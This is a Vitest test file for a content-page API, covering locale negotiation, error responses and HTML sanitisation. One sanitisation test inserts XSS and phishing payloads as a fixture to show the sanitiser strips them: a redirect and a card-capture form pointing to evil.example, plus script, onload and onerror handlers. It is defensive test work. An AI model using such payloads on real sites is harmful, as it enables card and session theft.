import { LOCALES } from '@portal/shared/locales';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentPages } from '../../db/schema/content.ts';
import { buildTestApp, type TestApp } from '../../test/build-test-app.ts';

let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp();
});
afterAll(() => t.close());

const page = (id: number | string, locale?: string) =>
  t.app.inject({
    method: 'GET',
    url: `/api/public/content/${id}`,
    headers: locale ? { 'accept-language': locale } : {},
  });

describe('GET /api/public/content/{pageId}', () => {
  it.each([
    [101, 'Terms'],
    [102, 'Privacy'],
    [103, 'information'],
  ])('page %i answers its English title and HTML content', async (id, titleWord) => {
    const res = await page(id);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({ id, locale: 'en_GB' });
    expect(body.title).toContain(titleWord);
    expect(body.content).toMatch(/^<(h2|h3|p|ul)\b/);
    expect(body.content).not.toMatch(/<script/i);
  });

  it.each([101, 102, 103])(
    'page %i has a different title in Arabic and in Japanese',
    async (id) => {
      const en = (await page(id)).json();
      for (const locale of ['ar', 'ja']) {
        const res = await page(id, locale);
        expect(res.statusCode).toBe(200);
        const body = res.json();
        expect(body.locale).toBe(locale);
        expect(body.title).not.toBe(en.title);
        expect(body.content).not.toBe(en.content);
      }
    },
  );

  it.each(LOCALES)('page 103 answers in %s with a title and content of its own', async (locale) => {
    const body = (await page(103, locale)).json();
    expect(body.locale).toBe(locale);
    expect(body.title.length).toBeGreaterThan(0);
    expect(body.content.length).toBeGreaterThan(0);
  });

  it('follows Accept-Language tags and weights (fr-CA, then de)', async () => {
    expect((await page(101, 'fr-CA,fr;q=0.9')).json().locale).toBe('fr');
    expect((await page(101, 'xx, de;q=0.5')).json().locale).toBe('de');
    expect((await page(101, 'xx-YY')).json().locale).toBe('en_GB');
  });

  it('varies by Accept-Language for caches', async () => {
    expect(String((await page(101)).headers.vary)).toMatch(/accept-language/i);
  });

  it('an unknown page is a 404 with the translated message', async () => {
    const res = await page(999);
    expect(res.statusCode).toBe(404);
    expect(res.json()).toEqual({ message: 'Sorry, we could not find what you were looking for.' });
  });

  it.each(['abc', '0', '-1', '1.5', '3000000000'])('a page id of %s is a 400', async (id) => {
    const res = await page(id);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('Please correct the highlighted fields.');
  });
});

describe('content pages are sanitised HTML', () => {
  it('hostile HTML written straight into the database comes back sanitised', async () => {
    await t.app.db.insert(contentPages).values({
      id: 901,
      slug: 'hostile',
      titles: { en_GB: 'Hostile' },
      contents: {
        en_GB:
          '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
          '<h2 style="position:fixed;inset:0">Terms</h2>' +
          '<p>Read <a href="javascript:steal()">this</a> and <a href="mailto:help@example.com">mail us</a>.</p>' +
          '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>' +
          '<iframe src="https://evil.example/"></iframe><svg onload="steal()"></svg>' +
          '<img src="/logo.png" onerror="steal()"><script>steal()</script>',
      },
    });

    const res = await page(901);

    expect(res.statusCode).toBe(200);
    expect(res.json().content).toBe(
      '<h2>Terms</h2>' +
        '<p>Read <a rel="noopener noreferrer">this</a> and ' +
        '<a href="mailto:help@example.com" rel="noopener noreferrer">mail us</a>.</p>' +
        'Pay<img src="/logo.png" />',
    );
  });

  it('the seed stores the pages already sanitised: their links carry rel="noopener noreferrer"', async () => {
    const [row] = await t.app.db.select().from(contentPages).where(eq(contentPages.id, 102));
    expect(row!.contents.en_GB).toContain(
      '<a href="mailto:support@talent-portal.example" rel="noopener noreferrer">',
    );
  });
});
